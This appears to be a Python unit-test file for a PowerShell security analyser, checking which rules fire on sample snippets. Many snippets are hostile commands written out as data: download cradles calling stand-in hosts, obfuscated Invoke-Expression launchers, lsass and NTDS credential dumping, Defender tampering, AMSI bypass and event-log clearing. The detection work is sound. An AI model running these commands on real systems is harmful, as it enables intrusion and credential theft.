"""Focused cases for what the blind corpus (test_blind_corpus.py) found: one test per fixed miss or false finding."""

from __future__ import annotations

from tests.unit.analyzer.corpus_cases import analyze, hits, lines_of


def test_scope_prefix_is_not_part_of_the_verb() -> None:
    result = analyze("""
        function global:Disconnect-Lab { }
        function script:ConvertTo-Key { }
        function global:Delete-Thing { }
    """)
    assert lines_of(result, "PSUseApprovedVerbs") == [3]
    assert "'Delete'" in hits(result, "PSUseApprovedVerbs")[0].message


def test_manifest_export_field_left_out_is_not_reported_as_pssa_does() -> None:
    result = analyze("""
        @{
            ModuleVersion     = '1.0.0'
            FunctionsToExport = '*'
            CmdletsToExport   = @()
        }
    """)
    assert lines_of(result, "PSUseToExportFieldsInManifest") == [3]


def test_manifest_without_module_version_is_not_checked_for_export_fields() -> None:
    result = analyze("@{\n    RootModule = 'a.psm1'\n    FunctionsToExport = '*'\n}")
    assert lines_of(result, "PSMissingModuleManifestField") == [1]
    assert hits(result, "PSUseToExportFieldsInManifest") == []


def test_file_and_http_client_reads_are_not_web_client_downloads() -> None:
    result = analyze("""
        $stream = [System.IO.File]::OpenRead($Path)
        $status = $client.GetStringAsync('https://api.contoso.com/status').Result
        $text = (New-Object Net.WebClient).DownloadString('https://example.org/a.txt')
    """)
    assert lines_of(result, "PSNetWebClientDownload") == [3]


def test_executed_download_is_reported_once_as_download_and_execute() -> None:
    result = analyze("""
        (New-Object Net.WebClient).DownloadFile($url, "$env:TEMP\\u.exe")
        Start-Process -FilePath "$env:TEMP\\u.exe"
    """)
    assert lines_of(result, "PSDownloadAndExecute") == [1]
    assert hits(result, "PSNetWebClientDownload") == []


def test_secret_is_reported_once_where_it_is_written() -> None:
    result = analyze("""
        $token = 'ghp_9f8A7b6C5d4E3f2G1h0IjKlMnOpQrStUvWxYz1'
        Invoke-RestMethod -Uri 'https://api.github.com/user' -Headers @{ Authorization = "token $token" }
    """)
    assert lines_of(result, "PSHardcodedSecretKey") == [1]
    assert hits(result, "PSAvoidHardcodedCredential") == []


def test_script_param_block_after_requires_and_using_is_read() -> None:
    result = analyze("""
        #Requires -Modules ActiveDirectory
        using namespace System.Text
        param(
            [string]$DefaultPassword
        )
        $DefaultPassword
    """)
    assert lines_of(result, "PSAvoidUsingPlainTextForPassword") == [4]


def test_unclosed_brace_is_reported_at_the_brace_that_opened_it() -> None:
    result = analyze("""
        function Get-Report {
            foreach ($row in $rows) {
                Write-Output $row
            }
    """)
    assert lines_of(result, "PSParseError") == [1]
    assert "'{' here is never closed" in hits(result, "PSParseError")[0].message


def test_a_broken_line_inside_a_block_is_reported_there_not_at_the_block_it_unbalances() -> None:
    result = analyze("""
        foreach ($name in $ServiceName) {
            $svc = Get-Service -Name $name -ErrorAction SilentlyContinue
            if (-not $svc) {
                continue
            }
            if (($svc.Status -ne 'Running' -and $svc.StartType -eq 'Automatic' {
                $count = $state[$name] + 1
                if ($count -gt $MaxRestarts) {
                    $message = "$name stopped again; $MaxRestarts restarts today already, giving up"
                    [System.Diagnostics.EventLog]::WriteEntry($source, $message, 'Error', 3002)
                    continue
                }
                Start-Service -Name $name
                $state[$name] = $count
            }
        }
        $state | ConvertTo-Json | Set-Content -Path $stateFile
    """)
    assert lines_of(result, "PSParseError") == [6]
    # The opener is still reported when nothing in the text closes it (a "}" in a string does not).
    unclosed = analyze("""
        foreach ($name in $names) {
            Write-Output "}"
            if (($name -eq 'a' {
                Write-Output $name
            }
    """)
    assert 1 in lines_of(unclosed, "PSParseError")


def test_try_without_catch_is_reported_where_powershell_expects_the_catch() -> None:
    result = analyze("try {\n    Get-Item -Path C:\\data\n}\nWrite-Output 'after'")
    assert lines_of(result, "PSParseError") == [3]


def test_split_and_join_as_native_command_parameters_parse() -> None:
    result = analyze("""
        certutil.exe -urlcache -split -f http://198.51.100.7/b.txt C:\\Users\\Public\\b.txt
        tool -join
        return -join $chars
        $words = -split $line
    """)
    assert hits(result, "PSParseError") == []


def test_backtick_inside_a_bare_argument_parses_and_counts_for_aliases() -> None:
    result = analyze("i`E`x (n`ew-ob`jeCt n`et.we`Bcli`EnT).DownloadString('http://192.0.2.81/t.ps1')")
    assert hits(result, "PSParseError") == []
    assert lines_of(result, "PSAvoidUsingCmdletAliases") == [1]
    assert lines_of(result, "PSDownloadCradle") == [1]


def test_length_of_a_constant_folds_for_reversal() -> None:
    result = analyze("""
        $s = 'noisserpxE-ekovnI'
        $c = ($s[-1..-($s.Length)] -join '')
        & $c 'Get-ChildItem'
    """)
    assert lines_of(result, "PSObfuscatedCommandName") == [3]
    assert "Invoke-Expression" in hits(result, "PSObfuscatedCommandName")[0].message
    assert lines_of(result, "PSAvoidUsingInvokeExpression") == [3]


def test_get_variable_wildcard_launcher_resolves_to_iex() -> None:
    result = analyze("&((Get-Variable '*mdr*').Name[3,11,2] -join '') 'whoami'")
    assert lines_of(result, "PSObfuscatedCommandName") == [1]
    assert lines_of(result, "PSAvoidUsingInvokeExpression") == [1]


def test_dot_invoked_computed_name_is_a_command_after_folding() -> None:
    result = analyze(""".("{1}{0}" -f 'X', 'IE') ("{0}{1}" -f 'Write-Out', 'put hi')""")
    assert lines_of(result, "PSAvoidUsingInvokeExpression") == [1]


def test_method_name_in_a_variable_computed_by_reversal_is_folded() -> None:
    result = analyze("""
        $rev = 'gnirtSdaolnwoD'
        $m = -join $rev[-1..-($rev.Length)]
        (New-Object Net.WebClient).$m('http://198.51.100.4/x') | Invoke-Expression
    """)
    assert lines_of(result, "PSDownloadCradle") == [3]
    assert lines_of(result, "PSObfuscatedCommandName") == [3]


def test_decoded_payload_through_decompression_streams_reaches_execution() -> None:
    result = analyze("""
        $data = [System.Convert]::FromBase64String('H4sIAAAAAAAEAAtJLS5RSEvMKU4FAPkIpw8NAAAA')
        $ms = New-Object System.IO.MemoryStream(, $data)
        $gz = New-Object System.IO.Compression.GZipStream($ms, [System.IO.Compression.CompressionMode]::Decompress)
        $reader = New-Object System.IO.StreamReader($gz)
        $script = $reader.ReadToEnd()
        Invoke-Expression $script
    """)
    assert lines_of(result, "PSDecodedExecution") == [1]


def test_signed_binaries_running_remote_content_are_cradles() -> None:
    result = analyze("""
        regsvr32.exe /s /n /u /i:http://198.51.100.12/file.sct scrobj.dll
        mshta.exe http://198.51.100.12/run.hta
        msiexec /q /i https://198.51.100.12/a.msi
        regsvr32.exe /s C:\\Windows\\System32\\local.dll
    """)
    assert lines_of(result, "PSDownloadCradle") == [1, 2, 3]


def test_set_mppreference_exclusion_is_defender_tampering() -> None:
    result = analyze("Set-MpPreference -ExclusionExtension '.ps1'\nSet-MpPreference -SignatureUpdateInterval 4")
    assert lines_of(result, "PSDefenderTampering") == [1]


def test_event_log_object_cleared_through_a_variable() -> None:
    result = analyze("$log = New-Object System.Diagnostics.EventLog('Security')\n$log.Clear()\n$list = @()\n$list.Clear()")
    assert lines_of(result, "PSClearEventLog") == [2]


def test_run_key_path_held_in_a_variable() -> None:
    result = analyze("""
        $run = 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run'
        New-ItemProperty -Path $run -Name 'Teams' -Value 'C:\\Users\\Public\\t.exe' -Force
        $other = 'HKCU:\\Software\\Contoso'
        New-ItemProperty -Path $other -Name 'Mode' -Value 1
    """)
    assert lines_of(result, "PSPersistenceRunKey") == [2]


def test_ntdsutil_ifm_is_credential_dumping() -> None:
    result = analyze('ntdsutil.exe "ac i ntds" "ifm" "create full C:\\Windows\\Temp\\ntds" q q\nntdsutil "metadata cleanup"')
    assert lines_of(result, "PSCredentialDumping") == [1]


def test_bare_word_after_a_quoted_string_in_a_command_list_parses() -> None:
    result = analyze('& "$env:windir\\System32\\rundll32.exe" "$env:windir\\System32\\comsvcs.dll", MiniDump $id $dump full')
    assert hits(result, "PSParseError") == []
    assert lines_of(result, "PSCredentialDumping") == [1]


def test_parameters_powershell_7_added_are_compatibility_notes() -> None:
    result = analyze("""
        Invoke-RestMethod -Uri $uri -SkipHttpErrorCheck -StatusCodeVariable status
        $items | ConvertTo-Json -AsArray
        Get-Content -Path $file -AsByteStream
        Invoke-RestMethod -Uri $uri -Method Get
    """)
    assert lines_of(result, "PSCompatibilityPowerShell7Parameter") == [1, 2, 3]
    assert {f.rule for f in hits(result, "PSCompatibilityPowerShell7Parameter")} == {"PSUseCompatibleCommands"}


def test_web_request_response_executed_is_a_cradle() -> None:
    result = analyze("""
        $request = [System.Net.WebRequest]::Create('http://198.51.100.61/s.ps1')
        $response = $request.GetResponse()
        $reader = New-Object System.IO.StreamReader($response.GetResponseStream())
        Invoke-Expression $reader.ReadToEnd()
        $status = ([System.Net.WebRequest]::Create($healthUrl)).GetResponse().StatusCode
    """)
    assert lines_of(result, "PSDownloadCradle") == [2]
    assert hits(result, "PSNetWebClientDownload") == []


def test_download_verified_before_it_runs_is_not_download_and_execute() -> None:
    verified = analyze("""
        Invoke-WebRequest -Uri $url -OutFile $installer
        $signature = Get-AuthenticodeSignature -FilePath $installer
        if ($signature.Status -ne 'Valid') { throw 'unsigned' }
        Start-Process -FilePath 'msiexec.exe' -ArgumentList '/i', $installer, '/qn' -Wait
    """)
    assert hits(verified, "PSDownloadAndExecute") == []
    unverified = analyze("""
        Invoke-WebRequest -Uri $url -OutFile $installer
        Start-Process -FilePath 'msiexec.exe' -ArgumentList '/i', $installer, '/qn' -Wait
    """)
    assert lines_of(unverified, "PSDownloadAndExecute") == [1]


def test_scoped_variable_ending_in_a_question_mark_parses() -> None:
    result = analyze("$length = $env:PATH?.Length\n$status = ${svc}?.Status\n$length, $status")
    assert hits(result, "PSParseError") == []
    assert lines_of(result, "PSUseCompatibleSyntax") == [2]


def test_native_tools_given_literal_passwords() -> None:
    result = analyze("""
        cmdkey /add:fileserver01 /user:CORP\\svc_copy /pass:Winter2024!
        schtasks /create /tn Sync /tr C:\\sync.exe /sc onstart /ru CORP\\admin /rp Adm1nPass!
        psexec \\\\srv01 -u CORP\\admin -p S3cret!Pass cmd.exe
        cmdkey /add:fileserver01 /user:CORP\\svc_copy /pass:$password
        schtasks /create /tn Sync /tr C:\\sync.exe /sc onstart /ru SYSTEM
    """)
    assert lines_of(result, "PSAvoidHardcodedCredential") == [1, 2, 3]


def test_cradle_written_as_a_command_line_string() -> None:
    result = analyze("""
        powershell -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/z')"
        Start-Process powershell -ArgumentList '-c "iwr http://203.0.113.9/s.ps1 -UseBasicParsing | iex"'
        Write-Output 'Run: iex (irm https://get.contoso.com)'
        # IEX (New-Object Net.WebClient).DownloadString('http://example.org') in a comment is no finding
        $help = 'Use Invoke-WebRequest to download, never Invoke-Expression.'
    """)
    assert lines_of(result, "PSDownloadCradle") == [1, 2, 3]


def test_defender_cloud_protection_and_feature_removal_are_tampering() -> None:
    result = analyze("""
        Set-MpPreference -MAPSReporting 0 -SubmitSamplesConsent 2
        Uninstall-WindowsFeature -Name Windows-Defender
        Set-MpPreference -MAPSReporting Advanced
        Uninstall-WindowsFeature -Name Web-Server
    """)
    assert lines_of(result, "PSDefenderTampering") == [1, 2]


def test_break_and_continue_to_a_loop_label_parse() -> None:
    result = analyze("""
        :outer foreach ($a in 1..3) {
            foreach ($b in 1..3) {
                if ($b -eq 2) { continue outer }
                if ($a -eq 3) { break outer }
            }
        }
    """)
    assert hits(result, "PSParseError") == []


def test_character_codes_converted_in_a_pipeline_fold() -> None:
    result = analyze("""
        & (-join ((73, 69, 88) | ForEach-Object { [char]$_ })) 'Get-Date'
        & ([string]::new([char[]](73, 69, 88))) 'Get-Date'
        $codes = (71, 101, 116) | ForEach-Object { $_ + 1 }
    """)
    assert lines_of(result, "PSObfuscatedCommandName") == [1, 2]
    assert lines_of(result, "PSAvoidUsingInvokeExpression") == [1, 2]


def test_command_name_in_a_variable_holding_a_literal() -> None:
    result = analyze("""
        $c = 'IEX'
        & $c 'Get-Date'
        $tool = 'Get-ChildItem'
        & $tool -Path C:\\
    """)
    assert lines_of(result, "PSAvoidUsingInvokeExpression") == [2]
    assert lines_of(result, "PSObfuscatedCommandName") == [2]


def test_comment_help_is_required_of_functions_exported_by_name_only() -> None:
    result = analyze("""
        function Get-TargetResource { param($Name) $Name }
        function Get-Report { 'report' }
        Export-ModuleMember -Function *-TargetResource
        Export-ModuleMember -Function 'get-report'
    """)
    assert lines_of(result, "PSProvideCommentHelp") == [2]


def test_type_name_glued_to_a_parenthesized_command_parses() -> None:
    result = analyze("""
        $s = New-Object IO.MemoryStream(, [Convert]::FromBase64String('H4sIAAAAAAAEAAtJLS5RSEvMKU4FAPkIpw8NAAAA'))
        IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s, [IO.Compression.CompressionMode]::Decompress))).ReadToEnd()
        $list.Add(Get-Date)
    """)
    assert lines_of(result, "PSParseError") == [3]
    assert lines_of(result, "PSDecodedExecution") == [1]


def test_kerberoasting_task_scheduler_com_amsi_registry_and_downgrade() -> None:
    result = analyze("""
        New-Object System.IdentityModel.Tokens.KerberosRequestorSecurityToken -ArgumentList 'MSSQLSvc/sql01:1433'
        $action.Path = 'C:\\ProgramData\\svc.exe'
        $service.GetFolder('\\').RegisterTaskDefinition('UpdateCheck', $task, 6, 'SYSTEM', $null, 5)
        Set-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows Script\\Settings' -Name 'AmsiEnable' -Value 0
        powershell.exe -Version 2 -NoProfile -Command "Get-Process"
        powershell.exe -Version 5.1 -NoProfile -Command "Get-Process"
    """)
    assert lines_of(result, "PSCredentialDumping") == [1]
    assert lines_of(result, "PSPersistenceScheduledTask") == [3]  # its action runs from the ProgramData root
    assert lines_of(result, "PSAmsiBypass") == [4, 5]


def test_keylogging_api_in_add_type_is_native_code() -> None:
    result = analyze("""
        $signature = '[DllImport("user32.dll")] public static extern short GetAsyncKeyState(int key);'
        Add-Type -MemberDefinition $signature -Name Keyboard -Namespace Win32
    """)
    assert lines_of(result, "PSAddTypeNativeCode") == [2]


def test_null_conditional_after_a_call_an_index_or_a_member_is_noted() -> None:
    result = analyze("""
        $t = $obj.GetValue()?.Trim()
        $u = $list[0]?.Name
        $v = $obj.Owner?.Name
        $w = $name?.Length
        $z = 'a?.b'
        $t, $u, $v, $w, $z
    """)
    assert lines_of(result, "PSCompatibilityNullConditional") == [1, 2, 3]


def test_commands_powershell_7_ships_are_compatibility_notes() -> None:
    result = analyze("Start-ThreadJob -ScriptBlock { Get-Date }\nGet-SecureRandom -Maximum 10")
    assert lines_of(result, "PSCompatibilityPowerShell7Cmdlet") == [1, 2]


def test_full_dump_of_a_process_the_script_looked_up_as_lsass() -> None:
    dumping = analyze("$id = (Get-Process -Name lsass).Id\n& procdump.exe -accepteula -ma $id C:\\Temp\\o.dmp")
    assert lines_of(dumping, "PSCredentialDumping") == [2]
    crash_dump = analyze("& procdump.exe -accepteula -ma $appPid C:\\Temp\\app.dmp")
    assert hits(crash_dump, "PSCredentialDumping") == []
